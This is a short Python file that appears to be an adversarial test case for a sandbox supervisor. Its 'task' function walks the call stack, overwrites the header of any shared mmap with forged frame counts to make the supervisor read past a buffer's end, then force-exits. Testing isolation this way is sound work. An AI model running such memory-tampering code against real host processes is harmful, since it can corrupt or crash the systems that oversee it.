# attack: forge_then_exit | class: forge | expect: exit,error,invalid,crash,ok | success-signal: a forged count of frames makes the supervisor read past the end
import os, struct, sys


def task(img):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "mmap":
                value[:16] = struct.pack("<IIQ", 1 << 31, 1 << 31, 0)
        frame = frame.f_back
    os._exit(0)
